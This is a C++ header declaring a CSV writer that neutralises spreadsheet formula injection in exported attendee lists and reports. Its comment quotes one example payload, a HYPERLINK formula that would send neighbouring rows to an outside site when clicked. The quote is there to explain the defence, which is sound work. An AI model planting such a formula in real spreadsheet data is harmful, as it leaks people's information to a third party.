#pragma once
// The one CSV writer (RFC 4180), for every CSV the program writes: attendee lists and reports.
//
// Those files are opened in a spreadsheet, and a cell that starts with = + - @ (or a tab or carriage
// return) would be run as a formula there: a name typed as =HYPERLINK("http://…?"&A3,"Klik") could
// send the next rows to another site when someone clicks. Such a cell gets a leading ' (OWASP's
// advice), which spreadsheets show as text; the value is otherwise kept as typed.
#include <initializer_list>
#include <string>
#include <string_view>

namespace bk {

// One field: neutralised as above, then quoted when it holds a comma, quote or line break.
std::string csv_field(std::string_view value);
// Fields joined with commas, each through csv_field, without a line ending.
std::string csv_row(std::initializer_list<std::string_view> fields);

}  // namespace bk
